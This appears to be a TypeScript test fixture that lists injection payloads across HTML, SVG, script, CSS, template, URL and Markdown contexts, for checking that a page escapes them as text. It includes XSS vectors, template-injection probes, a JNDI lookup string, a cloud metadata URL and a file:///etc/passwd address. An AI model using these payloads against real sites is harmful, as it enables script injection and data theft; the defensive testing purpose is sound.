import type { PayloadGroup } from './payload.ts'

/** What a page must show as text and never take for markup, script, style or a template. */
export const markupPayloads: PayloadGroup[] = [
  // Elements and attributes that run script where they are put into a page.
  {
    kind: 'html',
    texts: [
      '<script>alert("hq-#")</script>',
      '<img src=x onerror="alert(\'hq-#\')">',
      '"><img src=x onerror=alert(1)>hq-#',
      "'><script src=//hq-#.example.test/x.js></script>",
      '<iframe srcdoc="<script>parent.hq=1</script>">hq-#</iframe>',
      '<a href="javascript:alert(1)">hq-#</a>',
      '<body onload=alert(1)>hq-#',
      '<details open ontoggle=alert(1)>hq-#',
      '<input autofocus onfocus=alert(1) value=hq-#>',
      '<form action=//hq-#.example.test><button>Delete</button></form>',
      '<meta http-equiv=refresh content="0;url=//hq-#.example.test">',
      '<base href=//hq-#.example.test/>',
      '</title></textarea></style></script><img src=x onerror=alert(1)>hq-#',
      '<!-- --!><img src=x onerror=alert(1)>hq-# -->',
      '<template><img src=x onerror=alert(1)>hq-#</template>',
      '&lt;script&gt;alert("hq-#")&lt;/script&gt;',
      '&#60;img src=x onerror=alert(1)&#62;hq-#',
      '<scr<script>ipt>alert("hq-#")</scr</script>ipt>',
      '<IMG """><SCRIPT>alert("hq-#")</SCRIPT>">',
    ],
  },
  // The same in other namespaces, whose parsing differs.
  {
    kind: 'svg',
    texts: [
      '<svg onload=alert("hq-#")>',
      '<svg><script>alert("hq-#")</script></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x>hq-#',
      '<svg><foreignObject><img src=x onerror=alert(1)>hq-#</foreignObject></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>hq-#',
      '<svg><a xlink:href="javascript:alert(1)"><text y=20>hq-#</text></a></svg>',
      '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#hq-#"/></svg>',
    ],
  },
  // What breaks out of a string of JavaScript, or of JSON that stands in a script element.
  {
    kind: 'script',
    texts: [
      '\'-alert("hq-#")-\'',
      '";alert("hq-#");//',
      '`${alert("hq-#")}`',
      '\\";alert("hq-#");//',
      '</script><script>alert("hq-#")</script>',
      '<!--<script>hq-#',
      'hq-#\u2028alert(1)\u2029',
      '{"constructor":{"prototype":{"hq-#":1}}}',
      ']]><script>alert("hq-#")</script>',
    ],
  },
  // Style that covers a page, loads or hides.
  {
    kind: 'css',
    texts: [
      '</style><style>*{background:url(//hq-#.example.test)}</style>',
      'expression(alert("hq-#"))',
      '<div style="position:fixed;inset:0;background:#0a0;z-index:99999">All healthy hq-#</div>',
      'red;}body{display:none}/*hq-#*/',
      '<link rel=stylesheet href=//hq-#.example.test/x.css>',
      '@import "//hq-#.example.test/x.css";',
      'url(javascript:alert("hq-#"))',
    ],
  },
  // The languages of templates, on servers and in browsers.
  {
    kind: 'template',
    texts: [
      '{{constructor.constructor("alert(1)")()}}hq-#',
      '${7*7}hq-#',
      '#{7*7}hq-#',
      '<%= 7*7 %>hq-#',
      '{%raw%}{{hq-#}}{%endraw%}',
      '{{hq-#}}',
      '[[${7*7}]]hq-#',
      '*{T(java.lang.Runtime)}hq-#',
      '${jndi:ldap://hq-#.example.test/a}',
      '{"dangerouslySetInnerHTML":{"__html":"<b>hq-#</b>"}}',
    ],
  },
  // Addresses that run, carry or lead elsewhere when they are made a link.
  {
    kind: 'url',
    texts: [
      'javascript:alert("hq-#")',
      'JaVaScRiPt:alert("hq-#")',
      'java\tscript:alert("hq-#")',
      '\u0001javascript:alert("hq-#")',
      'javascript://example.test/%0aalert("hq-#")',
      'data:text/html,<script>alert("hq-#")</script>',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#hq-#',
      'vbscript:msgbox("hq-#")',
      'file:///etc/passwd?hq-#',
      '//hq-#.example.test/path',
      'https://aws.amazon.com@hq-#.example.test/',
      'https://user:pass@example.test/hq-#',
      'http://169.254.169.254/latest/meta-data/?hq-#',
      'blob:https://example.test/hq-#',
    ],
  },
  // What a renderer of Markdown would make of a text.
  {
    kind: 'markdown',
    texts: [
      '[click](javascript:alert("hq-#"))',
      '![x](//hq-#.example.test/x.png)',
      '**bold** _hq-#_ `code` ~~gone~~',
      '# hq-# heading\n\n- item\n\n---',
      '<details><summary>hq-#</summary></details>',
      '[hq-#]: javascript:alert(1)',
    ],
  },
]
